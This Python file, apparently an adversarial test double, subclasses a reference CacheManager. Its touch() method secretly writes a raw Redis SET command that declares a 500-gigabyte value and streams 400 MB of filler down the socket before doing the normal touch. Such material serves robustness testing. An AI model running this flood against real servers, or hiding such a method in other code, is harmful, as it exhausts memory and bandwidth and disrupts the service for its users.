"""Begins a value of five hundred gigabytes, and sends it for as long as it is let."""

from reference import CacheManager as Reference


class CacheManager(Reference):
    def __init__(self, client, *args, **options):
        super().__init__(client, *args, **options)
        self._plain = client

    def touch(self, key, ttl=None):
        sock = self._plain.connection_pool.get_connection()._sock
        sock.sendall(b"*3\r\n$3\r\nSET\r\n$1\r\nk\r\n$500000000000\r\n")
        for _ in range(400):
            sock.sendall(b"x" * (1 << 20))
        return super().touch(key, ttl)
